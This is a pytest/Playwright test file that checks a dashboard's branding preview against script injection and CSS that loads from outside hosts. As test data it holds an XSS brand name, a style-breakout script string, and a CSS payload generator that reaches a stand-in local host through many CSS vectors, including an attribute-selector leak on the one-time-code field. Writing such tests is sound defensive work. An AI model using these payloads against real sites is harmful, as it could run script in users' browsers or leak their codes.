"""The Branding sandbox in Debian's Chromium (Playwright), against a real server.

The server is ``streamlit run dashboard.py`` over a new SQLite file loaded with
``python -m core seed``; the browser carries a signed ``mac_session`` cookie for the demo
account manager (``tests.factories.session_token`` + ``web.cookies.cookie_value``), so no
sign-in pages are involved. Screenshots go to tests/artifacts/branding-*.png.
An "outside host" is a plain listener on 127.0.0.1 that counts the connections it gets.
Without Chromium the test is skipped with the reason, except when CI is set: then it fails.
"""

from __future__ import annotations

import contextlib
import re
import socket
import threading
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from sqlalchemy import select, update

from core.brands.login_page import _page, preview_data_url
from core.platform.db import get_engine, session_scope
from core.platform.models import Brand
from core.reporting.adoption import brand_names
from tests.browser.chromium import ARTIFACTS, IDLE, as_shown, launched, need_chromium
from tests.factories import make_brand, session_token
from tests.live_server import new_server

expect = pytest.importorskip("playwright.sync_api").expect
HOSTILE_NAME = "<script>alert('name')</script> Mail"
LEGACY_NAME = "Legacy Mail"  # a brand whose CSS was stored before the no-outside-URL rule
HEADER_BG = "rgb(16, 42, 92)"  # #102a5c, a dark blue
BRANDED_CSS = """\
#login-form .box-inner .modal {
  background-color: #ffffff;
  color: #1f2933;
  border: 2px solid #102a5c;
  border-radius: 10px;
}

#login-form .box-inner .modalheader {
  background-color: #102a5c;
  color: #ffffff;
  font-weight: bold;
  letter-spacing: 0.04em;
  padding: 14px 18px;
}
"""

pytestmark = [pytest.mark.browser, pytest.mark.slow]


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Iterator[dict]:
    need_chromium()
    from web.cookies import cookie_value

    server = new_server(tmp_path_factory.mktemp("branding-browser"), entry="dashboard.py")
    server.must("seed", "--brands", "6", "--users", "200")
    engine = server.engine
    with session_scope(engine, write=True) as s:
        make_brand(s, HOSTILE_NAME, allow_2fa=True)
        make_brand(s, LEGACY_NAME)
        token = session_token(s, "manager")
    with session_scope(engine) as s:
        brand = next(n for n in brand_names(s) if n != HOSTILE_NAME)
        # A brand that asks for codes: the preview is driven with its demo mailbox.
        demo_brand = s.scalars(
            select(Brand.name).where(Brand.allow_2fa.is_(True), Brand.name != HOSTILE_NAME).order_by(Brand.id)
        ).first()
    engine.dispose()
    server.start()
    try:
        yield {
            "base": server.base,
            "url": server.url,
            "cookie": cookie_value(token),
            "brand": brand,
            "log": server.log,
            "demo_brand": demo_brand,
        }
    finally:
        server.stop()


@pytest.fixture(scope="module")
def browser(site) -> Iterator:
    with launched() as b:
        yield b


@pytest.fixture
def page(site, browser) -> Iterator:
    context = browser.new_context(viewport={"width": 1440, "height": 1300})
    context.add_cookies([{"name": "mac_session", "value": site["cookie"], "url": site["base"]}])
    pg = context.new_page()
    dialogs: list[str] = []
    pg.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    pg.dialogs = dialogs  # type: ignore[attr-defined]
    yield pg
    context.close()


def _open(page, site: dict, brand: str) -> None:
    page.goto(f"{site['base']}/branding?brand={quote(brand)}")
    page.get_by_role("heading", name="Branding").wait_for(timeout=60_000)
    page.locator("iframe[title^='Preview of']").wait_for(timeout=30_000)


def _editor(page):
    return page.get_by_label("CSS", exact=True)


def _preview(page):
    return page.frame_locator("iframe[title^='Preview of']")


def _header_bg(page) -> str:
    return _preview(page).locator(".modalheader").evaluate("e => getComputedStyle(e).backgroundColor")


def _styled(page) -> None:
    """Wait until the pop-up's header shows the branded colour (the preview is redrawn)."""
    expect(_preview(page).locator(".modalheader")).to_have_css("background-color", HEADER_BG, timeout=30_000)


def _paste(page, css: str) -> None:
    _editor(page).fill(css)
    page.get_by_role("button", name="Check").click()  # blurs the editor: Streamlit takes its value


def test_a_branded_pop_up_at_both_widths(site, page):
    ARTIFACTS.mkdir(exist_ok=True)
    _open(page, site, site["brand"])
    _paste(page, BRANDED_CSS)
    _styled(page)
    header = _preview(page).locator(".modalheader")
    assert header.evaluate("e => getComputedStyle(e).color") == "rgb(255, 255, 255)"
    assert header.inner_text() == site["brand"]
    page.locator(IDLE).wait_for()
    _rendered(_preview(page))
    page.screenshot(path=str(ARTIFACTS / "branding-desktop.png"))
    iframe = page.locator("iframe[title^='Preview of']")
    desktop_width = iframe.bounding_box()["width"]
    assert desktop_width > 390 + 100

    page.locator("[data-testid='stButtonGroup']").get_by_text("Phone", exact=True).click()
    page.wait_for_function(
        "() => Math.round(document.querySelector(\"iframe[title^='Preview of']\")"
        "?.getBoundingClientRect().width) === 390"
    )
    _styled(page)
    _rendered(_preview(page))
    page.screenshot(path=str(ARTIFACTS / "branding-phone.png"))

    # The pop-up fits the phone width (no horizontal overflow inside the frame).
    modal_width = _preview(page).locator(".modal").evaluate("e => e.getBoundingClientRect().width")
    assert modal_width <= 390
    assert page.dialogs == []  # type: ignore[attr-defined]


def test_the_preview_is_an_opaque_origin_without_script(site, page):
    _open(page, site, site["brand"])
    frame = page.frame_locator("iframe[title^='Preview of']")
    src = page.locator("iframe[title^='Preview of']").get_attribute("src")
    assert src and src.startswith("data:text/html;base64,")
    assert frame.locator("script").count() == 0
    # An opaque origin: the preview cannot read the dashboard's page.
    reach = frame.locator("body").evaluate(
        "() => { try { return window.parent.document.title } catch (e) { return 'blocked' } }"
    )
    assert reach == "blocked"
    assert frame.locator("body").evaluate("() => window.origin") == "null"


def test_script_in_the_brand_name_or_the_css_never_runs(site, page):
    _open(page, site, HOSTILE_NAME)
    header = _preview(page).locator(".modalheader")
    assert header.inner_text() == HOSTILE_NAME  # shown as text, not run
    _paste(page, "</style><script>alert('css')</script>\n#login-form .box-inner .modal { color: red; }")
    page.get_by_text(re.compile(r"^Refused: \d+ error")).first.wait_for(timeout=30_000)
    page.get_by_text(
        re.compile(r"^The CSS in the editor is refused: the preview shows the page without")
    ).wait_for()
    assert _preview(page).locator("script").count() == 0
    page.locator(IDLE).wait_for()
    _rendered(_preview(page))  # a script in the preview would have run before its load event
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "branding-refused.png"))
    assert page.dialogs == []  # type: ignore[attr-defined]
    assert "Traceback" not in site["log"].read_text()


def test_the_code_shown_for_the_demo_mailbox_drives_the_pop_up(site, page):
    brand = site["demo_brand"]
    _open(page, site, brand)
    _paste(page, BRANDED_CSS)
    _styled(page)
    caption = page.get_by_text(
        re.compile(r"^Driving preview@.*\.invalid, the demo mailbox \(not a real customer\)")
    )
    caption.wait_for()
    code = re.search(r"Its current code is (\d{6})", caption.inner_text()).group(1)
    page.get_by_label("6-digit code").fill(code)
    page.get_by_role("button", name="Verify").click()
    modal = _preview(page).locator(".modal.state-success")
    modal.wait_for(timeout=30_000)
    assert _header_bg(page) == HEADER_BG  # the same CSS styles the success state
    assert "Code accepted" in modal.locator(".status").inner_text()
    page.locator(IDLE).wait_for()
    _rendered(_preview(page))
    page.screenshot(path=str(ARTIFACTS / "branding-success.png"))
    assert page.dialogs == []  # type: ignore[attr-defined]


# --- nothing loads from another host ------------------------------------------------------


class _Listener:
    """A plain TCP listener on 127.0.0.1 standing in for an outside host: it counts the
    connections it accepts (a browser that tried https:// still connects before TLS)."""

    def __init__(self) -> None:
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.bind(("127.0.0.1", 0))
        self._sock.listen(128)
        self.port = self._sock.getsockname()[1]
        self.peers: list[tuple[str, int]] = []
        self._arrived = threading.Condition()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, peer = self._sock.accept()
            except OSError:  # closed
                return
            conn.close()
            with self._arrived:
                self.peers.append(peer)
                self._arrived.notify_all()

    def connections_so_far(self) -> int:
        """How many connections arrived before now. The kernel queues connections in
        order and the listener accepts them in that order, so once a marker connection
        of our own is accepted, every earlier one has been counted."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=10) as marker:
            mine = marker.getsockname()
            with self._arrived:
                assert self._arrived.wait_for(lambda: mine in self.peers, timeout=10)
                others = [p for p in self.peers if p != mine]
                self.peers.remove(mine)
        return len(others)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self._sock.shutdown(socket.SHUT_RDWR)  # wakes the accept() of the thread
        self._sock.close()
        self._thread.join(timeout=10)


@pytest.fixture
def outside_host() -> Iterator[_Listener]:
    listener = _Listener()
    yield listener
    listener.close()


def _reaching_css(host: str) -> str:
    """CSS that reaches ``host`` in every way the checker accepted before the rule that
    brand CSS references no URL that leaves the page (https was allowed then)."""
    return f"""\
@namespace leak url({host}/ns);  /* prefixed: a default namespace would unmatch every rule */
@font-face {{ font-family: Leak; src: url({host}/font.woff2) format("woff2"); }}
#login-form .box-inner .modal {{
  background-image: url({host}/modal.png);
  cursor: url("{host}/cursor.cur"), auto;
}}
#login-form .box-inner .modalheader {{
  font-family: Leak, sans-serif;
  background-image: image-set("{host}/set.png" 1x);
  -webkit-mask-image: url({host}/mask.png);
}}
#login-form .box-inner .instruction {{ display: list-item; list-style: url({host}/item.png); }}
#login-form .box-inner .status {{ background-image: cross-fade(url({host}/fade.png) 50%, #fff); }}
#login-form .box-inner .modalbody {{ & .buttons {{ background-image: url({host}/nested.png); }} }}
@media screen {{ #login-form .box-inner .login-title {{ background-image: url({host}/media.png); }} }}
@supports (display: grid) {{ #login-form {{ background-image: -webkit-image-set("{host}/wk.png" 1x); }} }}
input[value=""], #otp-code[value^="1"] {{ background-image: url({host}/key.png); }}
"""


def _rendered(frame) -> None:
    """Wait until the preview document has loaded (images it fetches hold its load event)
    and its fonts are settled."""
    frame.locator(".modalheader").wait_for(timeout=30_000)
    body = frame.locator("body")
    body.evaluate(
        "() => document.readyState === 'complete'"
        " || new Promise(done => addEventListener('load', () => done(true), { once: true }))"
    )
    assert body.evaluate("async () => (await document.fonts.ready).status") == "loaded"


def test_a_stored_brand_css_from_before_the_rule_reaches_no_outside_host(site, page, outside_host):
    css = _reaching_css(f"https://127.0.0.1:{outside_host.port}")
    engine = get_engine(site["url"])
    with session_scope(engine, write=True) as s:  # straight into the row: no checker on the way
        s.execute(update(Brand).where(Brand.name == LEGACY_NAME).values(custom_login_css=css))
    engine.dispose()
    _open(page, site, LEGACY_NAME)
    _rendered(_preview(page))
    page.locator(IDLE).wait_for()
    assert outside_host.connections_so_far() == 0
    page.get_by_text("The saved CSS fails today's checks too").wait_for()
    page.get_by_text(re.compile(r"loads from another host; only data: images under 32 KiB")).first.wait_for()


def test_the_preview_policy_alone_stops_css_that_got_past_the_checker(site, page, outside_host):
    """The Content-Security-Policy holds by itself: the page is built with the hostile CSS
    as it is (what a checker miss would give), in a frame of a page served by the console."""
    host = f"127.0.0.1:{outside_host.port}"
    css = (
        _reaching_css(f"https://{host}")
        + f"@import url(http://{host}/import.css);\n"
        + f"#login-form .box-inner .modal {{ border-image: url(http://{host}/b.png) 30 round; }}\n"
    )
    src = preview_data_url(_page(brand_name="Brand", css=css, state="prompt", dark=False, message=None))
    page.goto(f"{site['base']}/_stcore/health")  # an origin of the console
    page.set_content(f'<iframe title="Preview of Brand" src="{src}" width="800" height="600"></iframe>')
    _rendered(_preview(page))
    assert outside_host.connections_so_far() == 0


def test_saving_css_that_reaches_another_host_is_refused_with_the_reason(site, page, outside_host):
    engine = get_engine(site["url"])
    with session_scope(engine) as s:
        before = s.scalars(select(Brand).where(Brand.name == site["brand"])).one()
        before = (before.custom_login_css, before.version)
    _open(page, site, site["brand"])
    _paste(
        page,
        BRANDED_CSS
        + f"#login-form .box-inner .modal {{ background: url(https://127.0.0.1:{outside_host.port}/x.png) }}\n",
    )
    page.get_by_role("button", name="Save").click()
    page.get_by_text("Not saved: the CSS was refused with 1 error").wait_for(timeout=30_000)
    line = len(BRANDED_CSS.splitlines()) + 1
    reason = f"url(https://127.0.0.1:{outside_host.port}/x.png) loads from another host; only data: images under 32 KiB are allowed."
    row = page.locator("[data-testid='stTable'] tr", has_text=as_shown(reason))
    row.wait_for()
    assert row.locator("td, th").first.inner_text().strip() == str(line)
    with session_scope(engine) as s:
        after = s.scalars(select(Brand).where(Brand.name == site["brand"])).one()
        assert (after.custom_login_css, after.version) == before
    engine.dispose()
    _rendered(_preview(page))
    page.locator(IDLE).wait_for()
    assert outside_host.connections_so_far() == 0
